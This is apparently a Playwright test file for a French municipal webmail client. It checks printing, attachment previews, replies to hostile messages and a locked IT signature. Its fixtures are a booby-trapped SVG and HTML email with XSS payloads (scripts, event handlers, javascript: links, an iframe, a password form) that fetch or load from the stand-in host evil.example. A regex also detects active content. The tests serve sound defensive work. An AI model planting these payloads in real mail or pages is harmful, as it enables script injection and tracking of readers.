import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import MailComposer from 'nodemailer/lib/mail-composer';
import PostalMime from 'postal-mime';
import { type addImapUser } from '../integration/mail-offline-fixture.js';
import { composeBody, typeInBody } from './compose-body.js';
import { printThroughChromium } from './print-check.js';
import { sourcesBySubject } from './courrier-imap.js';
import { axeProblems } from './dav.js';
import AxeBuilder from '@axe-core/playwright';
import { findEnglishWords, stripNonProse } from './english-words.js';
import { newMailbox, profileWithMailAccount } from './courrier-imap.js';
import { SHOTS_DIR, addAccountByCli, servers, startOstal, tempProfile, type RunningOstal } from './ostal.js';

/**
 * Courrier comme au bureau (issue 17): « Imprimer » a message (the sheet with De, À, Cc, Date, Objet, checked as the
 * print output: Chromium's print to PDF rendered to an image by pdftoppm and looked at); « Aperçu » of an image, a
 * hostile SVG (scripts, remote image) and a text attachment holding HTML, running nothing; a reply to a hostile HTML
 * original keeps nothing active in the quote; IT's locked signature template cannot be left out of a message.
 * A user of its own (test-impression-…) for the first three; agent4 → agent5 with a unique subject for the last.
 */
const s = servers();
let ostal: RunningOstal;
let user: ReturnType<typeof addImapUser>;
const printSubject = 'Compte rendu du conseil du 12 janvier';
const hostileSubject = 'Invitation au pot de départ';

// A 16×16 blue PNG.
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAGUlEQVR42mNkaPjPQApgHFUwqmBUwfBVAABd8R/x0bz/ZwAAAABJRU5ErkJggg==',
  'base64',
);

const HOSTILE_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" height="120" onload="alert(\'svg-onload\')">' +
  "<script>alert('svg-script'); fetch('https://evil.example/svg-script');</script>" +
  '<rect width="240" height="120" fill="#1f4fb5"/>' +
  '<image href="https://evil.example/svg-image.png" width="20" height="20"/>' +
  '<a xlink:href="javascript:alert(\'svg-lien\')"><text x="24" y="70" fill="#ffffff" font-size="32">Logo mairie</text></a></svg>';

// Windows-1252 text (no charset given) holding HTML that must stay text.
const NOTES = 'Ordre du jour\u00a0:\n<script>window.__pwned = 3</script><b>pas en gras</b>\nRéunion à 18 h, salle des fêtes.\n';

const HOSTILE_HTML =
  '<html><head><style>body{background:url(https://evil.example/css-bg)}</style>' +
  "<script>window.__pwned = 1; alert('script');</script></head><body>" +
  '<p onclick="alert(\'p\')">Texte visible de l’original.</p>' +
  '<img src="x" onerror="window.__pwned = 2; alert(\'img\')">' +
  '<a href="javascript:alert(\'lien\')">lien piégé</a>' +
  '<iframe src="https://evil.example/frame"></iframe>' +
  '<form action="https://evil.example/form"><input name="mdp"><button>Valider</button></form>' +
  '<svg onload="alert(\'svg\')"><circle r="5"/></svg>' +
  '<img src="https://evil.example/track.png" alt="">' +
  '<div style="background:url(https://evil.example/css-inline)">Fin du message.</div></body></html>';

test.beforeAll(async () => {
  user = await newMailbox('test-impression', async (owner) => [
    await new MailComposer({
      from: 'Secrétariat de la mairie <secretariat@ostal.test>',
      to: `${owner.name} <${owner.email}>`,
      cc: 'Camille Martin <camille.martin@ostal.test>',
      subject: printSubject,
      date: new Date('2027-01-12T09:30:00Z'),
      text: 'Bonjour,\n\nvoici le compte rendu :\n- budget des écoles\n- travaux de la salle des fêtes\n\nCordialement,',
      html:
        '<p>Bonjour,</p><p>voici le <strong>compte rendu</strong>\u00a0:</p><ul><li>budget des écoles</li><li>travaux de la salle des fêtes</li></ul>' +
        '<p>Cordialement,</p><p><img src="https://evil.example/pixel.png" alt=""></p>',
      attachments: [
        { filename: 'plan.png', content: PNG, contentType: 'image/png' },
        { filename: 'logo.svg', content: Buffer.from(HOSTILE_SVG), contentType: 'image/svg+xml' },
        { filename: 'notes.txt', content: Buffer.from(NOTES, 'latin1'), contentType: 'text/plain' },
      ],
    })
      .compile()
      .build(),
    await new MailComposer({
      from: 'Inconnu <inconnu@exemple.invalid>',
      to: owner.email,
      subject: hostileSubject,
      text: 'Texte visible de l’original.',
      html: HOSTILE_HTML,
    })
      .compile()
      .build(),
  ]);
  const profileDir = profileWithMailAccount(user);
  ostal = await startOstal({ profileDir });
});

test.afterAll(async () => {
  await ostal?.stop();
});

/** axe opens a blank page of its own to finish its run: not a window opened by the message. */
let axeRunning = false;

/**
 * Serious or critical axe violations inside one dialog. The reading pane's frame behind it (sandboxed, no script) is
 * left out: axe cannot be injected into it and waits for it until the test times out.
 */
async function axeDialog(page: Page, selector: string): Promise<string[]> {
  axeRunning = true;
  try {
    const axe = await new AxeBuilder({ page }).include(selector).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']).analyze();
    return axe.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical').map((v) => `${v.id}: ${v.help}`);
  } finally {
    axeRunning = false;
  }
}

/** Dialogs, new windows and requests to evil.example seen by the page. */
function watch(page: Page): { dialogs: string[]; popups: string[]; evil: string[] } {
  const seen = { dialogs: [] as string[], popups: [] as string[], evil: [] as string[] };
  page.on('dialog', (d) => {
    seen.dialogs.push(d.message());
    void d.dismiss();
  });
  page.context().on('page', (p) => {
    if (!axeRunning) seen.popups.push(p.url());
  });
  page.on('request', (r) => {
    if (r.url().includes('evil.example')) seen.evil.push(r.url());
  });
  return seen;
}

async function openMessage(page: Page, subject: string): Promise<void> {
  const row = page.getByTestId('message').filter({ hasText: subject });
  await expect(row).toBeVisible({ timeout: 30_000 });
  await row.click();
  await expect(page.getByTestId('reader-subject')).toHaveText(subject);
}

test('« Imprimer » un message : aperçu avant impression avec De, À, Date, Objet ; la feuille imprimée ne montre que le message', async ({
  page,
}) => {
  test.setTimeout(120_000);
  const seen = watch(page);
  await page.goto(ostal.url);
  await openMessage(page, printSubject);
  await page.getByTestId('message-print').click();
  const preview = page.getByTestId('print-preview');
  await expect(preview).toBeVisible();
  await expect(preview.getByRole('heading', { name: 'Aperçu avant impression' })).toBeVisible();
  await expect(preview.getByTestId('print-now')).toBeFocused();
  const sheet = preview.getByTestId('print-sheet');
  await expect(sheet.getByTestId('print-from')).toHaveText('DeSecrétariat de la mairie <secretariat@ostal.test>');
  await expect(sheet.getByTestId('print-to')).toContainText(user.email);
  await expect(sheet.getByTestId('print-cc')).toContainText('Camille Martin <camille.martin@ostal.test>');
  await expect(sheet.getByTestId('print-date')).toContainText('12 janvier 2027 à 10:30');
  await expect(sheet.getByTestId('print-subject')).toHaveText(`Objet${printSubject}`);
  await expect(sheet.getByTestId('print-attachments')).toContainText('plan.png, logo.svg, notes.txt');
  await expect(sheet.getByTestId('print-body').locator('strong', { hasText: 'compte rendu' })).toBeVisible();
  await expect(sheet.getByTestId('print-body').locator('li')).toHaveCount(2);
  // The remote image of the message is not loaded in the sheet either.
  expect(await sheet.getByTestId('print-body').locator('img').count()).toBe(0);
  await page.screenshot({ path: path.join(SHOTS_DIR, 'impression-apercu.png') });
  expect(await axeDialog(page, '[data-testid="print-preview-backdrop"]')).toEqual([]);
  expect(findEnglishWords(stripNonProse(await preview.innerText()))).toEqual([]);

  // « Imprimer » calls the browser's print; the output is checked through Chromium's print to PDF.
  const printed = await printThroughChromium(page, () => preview.getByTestId('print-now').click(), 'impression-message.png', {
    layout: true,
  });
  for (const expected of [
    'De',
    'Secrétariat de la mairie',
    'À',
    user.email,
    'Date',
    'Objet',
    printSubject,
    'budget des écoles',
    'Cordialement,',
  ])
    expect(printed).toContain(expected);
  // Only the sheet: not the application around it, not the preview's buttons.
  expect(printed).not.toMatch(/Boîte de réception|Réglages|Aperçu avant impression|Imprimer|Répondre/);

  await page.keyboard.press('Escape');
  await expect(preview).toBeHidden();
  await expect(page.getByTestId('message-print')).toBeFocused();
  expect(seen).toEqual({ dialogs: [], popups: [], evil: [] });
});

test('« Aperçu » d’une image, d’un SVG piégé et d’un texte contenant du HTML : affichés, rien ne s’exécute', async ({ page }) => {
  test.setTimeout(120_000);
  const seen = watch(page);
  await page.goto(ostal.url);
  await openMessage(page, printSubject);
  const attachment = (name: string) => page.getByTestId('reader-attachment').filter({ hasText: name });
  const preview = page.getByTestId('file-preview');

  // PNG.
  await attachment('plan.png').getByTestId('attachment-preview').click();
  await expect(preview.getByRole('heading', { name: 'Aperçu\u00a0: plan.png' })).toBeVisible();
  const png = preview.getByTestId('file-preview-image');
  await expect.poll(() => png.evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(16);
  await expect(preview.getByTestId('file-preview-close')).toBeFocused();
  await page.keyboard.press('Escape');
  await expect(preview).toBeHidden();
  await expect(attachment('plan.png').getByTestId('attachment-preview')).toBeFocused();

  // A hostile SVG is drawn, its scripts, event handlers, links and remote image do nothing.
  await attachment('logo.svg').getByTestId('attachment-preview').click();
  const svg = preview.getByTestId('file-preview-image');
  await expect.poll(() => svg.evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(240);
  await svg.click();
  await page.waitForTimeout(1_000);
  await page.screenshot({ path: path.join(SHOTS_DIR, 'apercu-image-svg.png') });
  expect(await axeDialog(page, '[data-testid="file-preview-backdrop"]')).toEqual([]);
  await preview.getByTestId('file-preview-close').click();

  // A text file holding HTML: shown as text (Windows-1252 read right), nothing interpreted.
  await attachment('notes.txt').getByTestId('attachment-preview').click();
  const text = preview.getByTestId('file-preview-text');
  await expect(text).toContainText('Réunion à 18 h, salle des fêtes.');
  await expect(text).toContainText('<script>window.__pwned = 3</script><b>pas en gras</b>');
  expect(await text.locator('*').count()).toBe(0);
  await page.screenshot({ path: path.join(SHOTS_DIR, 'apercu-texte.png') });
  expect(await axeDialog(page, '[data-testid="file-preview-backdrop"]')).toEqual([]);
  expect(findEnglishWords(stripNonProse(await preview.locator('h2').innerText()))).toEqual([]);
  await page.keyboard.press('Escape');

  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(seen).toEqual({ dialogs: [], popups: [], evil: [] });
});

test('répondre à un original HTML piégé : la citation passe par le nettoyeur du lecteur, rien d’actif', async ({ page }) => {
  const seen = watch(page);
  await page.goto(ostal.url);
  await openMessage(page, hostileSubject);
  await page.getByTestId('reply').click();
  const compose = page.getByTestId('compose');
  const editor = composeBody(compose);
  await expect(editor).toHaveAttribute('contenteditable', 'true');
  await expect(editor.locator('blockquote')).toContainText('Texte visible de l’original.');
  await expect(editor.locator('blockquote')).toContainText('Fin du message.');
  await expect(editor.locator('blockquote')).toContainText('lien piégé');
  const html = await editor.evaluate((el) => el.innerHTML);
  expect(html).not.toMatch(/<script|<style|<iframe|<form|<input|<svg|\son[a-z]+=|javascript:|evil\.example|style=/i);
  await typeInBody(compose, 'Merci, je ne viendrai pas.');
  await page.screenshot({ path: path.join(SHOTS_DIR, 'reponse-original-piege.png') });
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(seen).toEqual({ dialogs: [], popups: [], evil: [] });
  await page.keyboard.press('Escape');
  await compose.getByTestId('compose-discard-draft').click();
  await expect(compose).toBeHidden();
});

test('signature de l’organisation verrouillée : affichée et complétée dans Réglages, remise dans un message dont on l’a ôtée', async ({
  browser,
}) => {
  test.setTimeout(150_000);
  const writer = s.users[3]; // agent4
  const recipient = s.users[4]; // agent5
  const subject = `Permanence de l’état civil ${crypto.randomUUID().slice(0, 8)}`;
  const policyFile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'ostal-policy-')), 'policies.json');
  fs.writeFileSync(
    policyFile,
    JSON.stringify({
      settings: {
        'mail.signatureTemplate': {
          value: '<p><strong>{prénom} {nom}</strong> – {fonction}</p><p>Mairie de Saint-Ostal · 1 place de la République</p>',
          locked: true,
        },
      },
    }),
  );
  const profile = tempProfile();
  addAccountByCli(profile, writer);
  const signed = await startOstal({ profileDir: profile, env: { OSTAL_POLICIES: policyFile } });
  const context = await browser.newContext();
  const page = await context.newPage();
  try {
    await page.goto(signed.url);
    await page.getByTestId('nav-reglages').click();
    await page.getByTestId('reglages-courrier').click();
    const card = page.getByTestId('signature-card');
    await expect(card).toBeVisible({ timeout: 20_000 });
    const template = card.getByTestId('signature-template');
    await expect(template).toContainText('Mairie de Saint-Ostal');
    await expect(template).toContainText('fixée par votre service informatique');
    await card.getByTestId('signature-fonction').fill('Officier d’état civil');
    await expect(template).toContainText('Officier d’état civil');
    // The template itself is not editable: no field or editor holds its text.
    await expect(card.getByTestId('compose-editor')).not.toContainText('Mairie de Saint-Ostal');
    await card.getByTestId('signature-save').click();
    await expect(card.getByTestId('signature-saved')).toBeVisible();
    await card.scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(SHOTS_DIR, 'signature-verrouillee.png'), fullPage: true });
    expect(await axeProblems(page)).toEqual([]);

    // A new message carries it; the agent empties the whole text and writes without it.
    await page.getByTestId('nav-courrier').click();
    await page.getByTestId('compose-new').click();
    const compose = page.getByTestId('compose');
    const editor = composeBody(compose);
    await expect(editor).toContainText('Mairie de Saint-Ostal');
    await expect(editor).toContainText('Officier d’état civil');
    await compose.getByLabel('À', { exact: true }).fill(`${recipient.name} <${recipient.email}>`);
    await compose.getByLabel('Objet').fill(subject);
    await editor.click();
    await editor.press('Control+a');
    await editor.press('Delete');
    await typeInBody(compose, 'Bonjour, la permanence est ouverte samedi matin.');
    await expect(editor).not.toContainText('Mairie de Saint-Ostal');
    await compose.getByTestId('compose-send').click();
    await expect(compose).toBeHidden({ timeout: 15_000 });

    // What reaches agent5 ends with the organisation's signature all the same.
    await expect.poll(async () => (await sourcesBySubject(4, 'INBOX', subject)).length, { timeout: 30_000 }).toBe(1);
    const [raw] = await sourcesBySubject(4, 'INBOX', subject);
    const mail = await PostalMime.parse(raw!);
    expect(mail.text).toMatch(
      /la permanence est ouverte samedi matin\.[\s\S]*\n-- \n[\s\S]*Officier d’état civil[\s\S]*Mairie de Saint-Ostal/,
    );
    expect(mail.html).toMatch(/Officier d’état civil[\s\S]*Mairie de Saint-Ostal/);
  } finally {
    await context.close();
    await signed.stop();
  }
});
